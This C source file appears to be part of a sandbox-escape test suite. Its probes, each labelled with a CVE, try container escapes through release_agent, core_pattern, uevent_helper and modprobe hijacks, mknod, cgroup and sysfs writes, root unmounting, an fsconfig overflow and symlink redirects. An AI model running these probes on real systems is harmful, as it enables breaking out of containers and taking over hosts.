// By what can be mounted, and by what is mounted.
#include "escape.h"

// The agent's own system directories would show through another mount of the same file system.
static const char *volumes_of_others(void) {
    const char *tags[] = {"czone", "volumes", "share", "files", "root"};
    for (size_t i = 0; i < sizeof tags / sizeof *tags; i++) {
        int root = mount_new("virtiofs", tags[i], NULL);
        if (root >= 0) return reached("all volumes of the VM, mounted by the tag %s", tags[i]);
    }
    int types = open("/proc/self/mountinfo", O_RDONLY);
    if (types >= 0) close(types);
    return NULL;
}
static const char *devices_of_the_agent(void) {
    int root = mount_new("devtmpfs", "dev", NULL);
    return root < 0 ? NULL : reached("the agent's /dev");
}
static const char *image_by_its_device(void) {
    const char *node = "/tmp/pmem0";
    for (int major = 240; major < 512; major++) {
        unlink(node);
        if (mknod(node, S_IFBLK | 0600, (dev_t)major << 8) < 0) return NULL;
        int file = open(node, O_RDWR);
        if (file >= 0) return reached("block device %d:0", major);
        int root = mount_new("erofs", node, NULL);
        if (root >= 0) return reached("an image, by the block device %d:0", major);
    }
    return NULL;
}
static bool can_make(int directory) {
    unlinkat(directory, "by-an-escape", AT_REMOVEDIR);
    return mkdirat(directory, "by-an-escape", 0755) == 0;
}
// The group that is above one's own, and its neighbours.
static const char *control_groups(void) {
    int root = mount_new("cgroup2", "none", NULL);
    if (root < 0) root = open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY);
    if (root < 0) return NULL;
    if (is_guest_root(root)) return reached("the guest's control groups");
    const char *limits[] = {"memory.max", "cpuset.mems", "pids.max", "memory.base.max", "cpu.weight", "../cgroup.kill",
                            "../cgroup.procs"};
    for (size_t i = 0; i < sizeof limits / sizeof *limits; i++)
        if (put(root, limits[i], "1")) return reached("%s of its own group", limits[i]);
    if (faccessat(root, "containers", F_OK, 0) == 0 || faccessat(root, "agent", F_OK, 0) == 0) return reached("the groups above");
    return NULL;
}
static const char *release_agent(void) {
    const char *controllers[] = {"memory", "rdma", "cpuset", "devices", "freezer", ""};
    for (size_t i = 0; i < sizeof controllers / sizeof *controllers; i++) {
        int root = mount_new("cgroup", "none", controllers[i]);
        if (root >= 0 && put(root, "release_agent", "/owned")) return reached("release_agent of a version 1 hierarchy");
    }
    return NULL;
}
static const char *core_pattern_of(int proc) {
    if (put(proc, "sys/kernel/core_pattern", "|/tmp/owned %P")) return reached("core_pattern: the guest starts a program of ours");
    if (put(proc, "sys/kernel/modprobe", "/tmp/owned")) return reached("the path of modprobe");
    return NULL;
}
static const char *core_pattern(void) {
    const char *result = core_pattern_of(open("/proc", O_RDONLY | O_DIRECTORY));
    if (!result) {
        int proc = mount_new("proc", "proc", NULL);
        if (proc >= 0) result = core_pattern_of(proc);
    }
    if (!result && mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        result = core_pattern_of(open("/proc", O_RDONLY | O_DIRECTORY));
    return result;
}
static const char *settings_of(int proc) {
    const char *names[] = {"sys/vm/overcommit_memory", "sys/kernel/panic", "sys/kernel/threads-max", "sys/fs/file-max",
                           "sys/kernel/randomize_va_space", "sys/vm/drop_caches", "sys/kernel/ctrl-alt-del"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) if (put(proc, names[i], "1")) return reached("/proc/%s", names[i]);
    return NULL;
}
static const char *settings_of_the_guest(void) {
    int proc = mount_new("proc", "proc", NULL);
    const char *result = settings_of(open("/proc", O_RDONLY | O_DIRECTORY));
    return result || proc < 0 ? result : settings_of(proc);
}
static const char *sysrq(void) {
    // "h" prints help, and harms nobody where it works.
    int proc = mount_new("proc", "proc", NULL);
    if (put(AT_FDCWD, "/proc/sysrq-trigger", "h") || (proc >= 0 && put(proc, "sysrq-trigger", "h"))) return reached("sysrq-trigger");
    return NULL;
}
static const char *interrupts(void) {
    int proc = mount_new("proc", "proc", NULL);
    if (put(AT_FDCWD, "/proc/irq/default_smp_affinity", "1") || (proc >= 0 && put(proc, "irq/default_smp_affinity", "1")))
        return reached("the guest's interrupts");
    return NULL;
}
static const char *sysfs_of(int sys) {
    if (put(sys, "kernel/uevent_helper", "/tmp/owned")) return reached("uevent_helper");
    const char *names[] = {"bus/virtio/drivers_probe", "bus/virtio/drivers_autoprobe", "devices/system/memory/auto_online_blocks",
                           "kernel/mm/transparent_hugepage/enabled", "devices/system/memory/memory0/state", "power/state"};
    const char *values[] = {"virtio0", "1", "online", "never", "online", "mem"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) if (put(sys, names[i], values[i])) return reached("/sys/%s", names[i]);
    return NULL;
}
static const char *drivers_and_memory(void) {
    int sys = mount_new("sysfs", "sys", NULL);
    const char *result = sysfs_of(open("/sys", O_RDONLY | O_DIRECTORY));
    return result || sys < 0 ? result : sysfs_of(sys);
}
// A superblock that others use becomes read-only for them, too.
static const char *superblocks_of_others(void) {
    FILE *table = fopen("/proc/self/mountinfo", "r");
    char line[1000], place[300], type[60];
    while (table && fgets(line, sizeof line, table)) {
        char *end = strstr(line, " - ");
        if (!end || sscanf(line, "%*s %*s %*s %*s %299s", place) != 1 || sscanf(end, " - %59s", type) != 1) continue;
        if (strcmp(type, "virtiofs") && strcmp(type, "cgroup2") && strcmp(type, "sysfs") && strcmp(type, "erofs")) continue;
        if (mount(NULL, place, NULL, MS_REMOUNT | MS_RDONLY, NULL) == 0) return reached("the superblock of %s at %s", type, place);
    }
    int root = mount_new("cgroup2", "none", NULL);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", root);
    if (root >= 0 && mount(NULL, path, NULL, MS_REMOUNT | MS_RDONLY, NULL) == 0) return reached("the superblock of control groups");
    return NULL;
}
// What lies below the root's mount is the agent's.
static const char *root_taken_away(void) {
    if (unshare(CLONE_NEWNS) < 0 && geteuid() != 0) return NULL;
    for (int i = 0; i < 8; i++) {
        if (umount2("/", MNT_DETACH) < 0) break;
        if (chdir("/") == 0 && is_guest_root(AT_FDCWD)) return reached("the guest's root, below the container's");
    }
    if (syscall(SYS_pivot_root, ".", ".") == 0 && is_guest_root(AT_FDCWD)) return reached("the guest's root by pivot_root");
    return NULL;
}
static const char *masks_taken_away(void) {
    const char *paths[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list", "/sys/firmware", "/proc/sys"};
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) umount2(paths[i], MNT_DETACH);
    struct stat status;
    if (stat("/proc/kcore", &status) == 0 && status.st_size > 1 << 20) return reached("/proc/kcore");
    return settings_of(open("/proc", O_RDONLY | O_DIRECTORY));
}
// Its parser of options once wrote behind its buffer.
static const char *long_options(void) {
    int context = (int)syscall(SYS_fsopen, "cgroup2", 0);
    if (context < 0) return NULL;
    char value[256];
    memset(value, 'x', sizeof value - 1);
    value[255] = 0;
    for (int i = 0; i < 40; i++) syscall(SYS_fsconfig, context, 1 /* FSCONFIG_SET_STRING */, "\0", value, 0);
    return NULL;
}
static const char *write_through_links(void) {
    const char *place = scratch();
    char path[100];
    snprintf(path, sizeof path, "%s/link", place);
    // What a runtime writes to a path of the container's must not go where the container's links point.
    if (symlink("/proc/self/attr/../../1/root/run/czone-agent", path) < 0) return NULL;
    int root = open(path, O_RDONLY | O_DIRECTORY);
    return root >= 0 && can_make(root) ? reached("the agent's directory by a link") : NULL;
}

const struct escape mount_escapes[] = {
    {"volumes-of-others", "CVE-2020-2026, the guest's shared directory", volumes_of_others},
    {"agents-devices", "devtmpfs is one for all (report on privileged containers, 2019)", devices_of_the_agent},
    {"image-by-device", "CAP_MKNOD and a block device (report on docker, 2019)", image_by_its_device},
    {"control-groups", "CVE-2021-4154 class: groups that are not one's own", control_groups},
    {"release-agent", "CVE-2022-0492", release_agent},
    {"core-pattern", "CVE-2019-16884, CVE-2025-31133: core_pattern", core_pattern},
    {"settings", "CVE-2025-52881: the kernel's settings", settings_of_the_guest},
    {"sysrq", "CVE-2025-31133: sysrq-trigger", sysrq},
    {"interrupts", "writable /proc/irq (moby issue 31447 class)", interrupts},
    {"uevent-helper", "uevent_helper, drivers and memory by a new sysfs", drivers_and_memory},
    {"superblocks", "remount of what others use (LXC, 2013)", superblocks_of_others},
    {"below-the-root", "CVE-2022-23648 class: what the root covers", root_taken_away},
    {"masks", "CVE-2023-28642: masks and read-only paths taken away", masks_taken_away},
    {"long-options", "CVE-2022-0185: fsconfig", long_options},
    {"links", "CVE-2018-15664, CVE-2021-30465: links at a runtime's path", write_through_links},
    {0},
};
